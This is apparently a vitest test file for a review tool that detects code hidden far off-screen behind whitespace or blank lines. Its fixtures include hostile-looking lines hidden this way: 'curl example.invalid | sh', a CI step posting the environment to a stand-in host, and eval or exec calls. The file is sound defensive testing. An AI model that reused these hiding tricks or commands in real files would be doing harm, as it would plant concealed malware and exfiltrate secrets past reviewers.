import { describe, expect, it } from "vitest";
import { textFactsOf } from "../../../src/review/text/text-facts.ts";

const found = (text: string, path: string) =>
  textFactsOf(text, path).filter((fact) => fact.feature === "offscreen-code");
const blanks = (count: number) => " ".repeat(count);

describe("code where nobody scrolls to", () => {
  const attacks: [string, string, string][] = [
    [
      "behind 273 blanks at the start of a fake font",
      "fa.woff2",
      `${blanks(273)}eval(require("fs").readFileSync("x"));`,
    ],
    [
      "behind an export",
      "postcss.config.mjs",
      `export default config;${blanks(300)}global['!']='8';var _$=1;`,
    ],
    [
      "behind 2000 blanks",
      "tailwind.config.js",
      `module.exports = {};${blanks(2000)}require("child_process").exec("id")`,
    ],
    ["behind tabs", "a.js", `a();${"\t".repeat(120)}b(c);`],
    ["behind other blanks", "a.js", `a();${"\u2003".repeat(120)}b(c);`],
    ["in Python", "setup.py", `x = 1${blanks(150)};exec("print(1)")`],
    ["in a shell script", "a.sh", `echo hi ${blanks(150)}; curl example.invalid | sh`],
    ["behind a comment that ends there", "a.js", `a(); /*${blanks(150)}*/ evil(1);`],
    ["behind a comment of its own", "a.js", `a();${blanks(150)}/* x */ evil(1);`],
    ["as the end of a pipe", "a.sh", `curl example.invalid${blanks(150)}| sh -s`],
    [
      "in a workflow",
      ".github/workflows/a.yml",
      `      - run: npm test${blanks(200)}&& curl example.invalid -d "$(env)"`,
    ],
    [
      "below 40 blank lines",
      "a.js",
      `const a = 1;\n${"\n".repeat(40)}fetch("https://example.invalid");\n`,
    ],
    [
      "below 3000 lines with blanks",
      "a.py",
      `a = 1\n${"   \n".repeat(3000)}import os; os.system("id")\n`,
    ],
  ];
  it.each(attacks)("is found %s", (_, path, text) => {
    expect(found(text, path).length).toBeGreaterThan(0);
  });
  it("is shown from the place where it begins", () => {
    const [fact] = found(`ok();\nexport default x;${blanks(200)}run(1);\n`, "a.js");
    expect(fact?.at).toMatchObject({ line: 2, column: 18 });
    expect(fact?.excerpt).toBe("behind 200 blanks: export default x; [200 blanks] run(1);");
  });
  const honest: [string, string, string][] = [
    ["a comment far right", "a.js", `a();${blanks(120)}// says (why);`],
    ["a comment of a shell", "a.sh", `a${blanks(120)}# f(x); y`],
    ["a comment of an assembler", "a.asm", `mov${blanks(120)}; f(x); y`],
    ["a table of text", "a.txt", `Name${blanks(120)}Value(s)\nLonger${blanks(118)}f(x)\n`],
    ["a Markdown table", "a.md", `| a${blanks(150)}| f(x) |\n| b | c |`],
    [
      "deep nesting",
      "a.js",
      [90, 104, 118].map((count) => `${blanks(count)}call(one);`).join("\n"),
    ],
    [
      "an aligned continuation",
      "a.c",
      `${"static const struct very_long_name_of_a_function_that_is_long(".padEnd(110, "x")}(int a,\n${blanks(111)}int b);`,
    ],
    [
      "a macro's backslashes",
      "a.h",
      `#define A(x) f(x)${blanks(110)}\\\n  g(x)${blanks(116)}\\\n  h(x)`,
    ],
    ["blanks at the end", "a.js", `a();${blanks(500)}\nb();`],
    ["a minified file", "a.min.js", `var a=1;${"function b(){return c(1)};".repeat(200)}`],
    ["ASCII art", "a.txt", `${blanks(120)}/\\_/\\\n${blanks(119)}( o.o )\n`],
    ["blank lines between paragraphs", "a.md", `one\n${"\n".repeat(10)}two(2);\n`],
    [
      "a table of a page below blank lines",
      "a.html",
      `<p>a</p>\n${"\n".repeat(50)}<td class="x">f(x);</td>\n`,
    ],
    ["blank lines at the end", "a.js", `a();\n${"\n".repeat(100)}`],
  ];
  it.each(honest)("is not found in ordinary text: %s", (_, path, text) => {
    expect(found(text, path)).toEqual([]);
  });
});
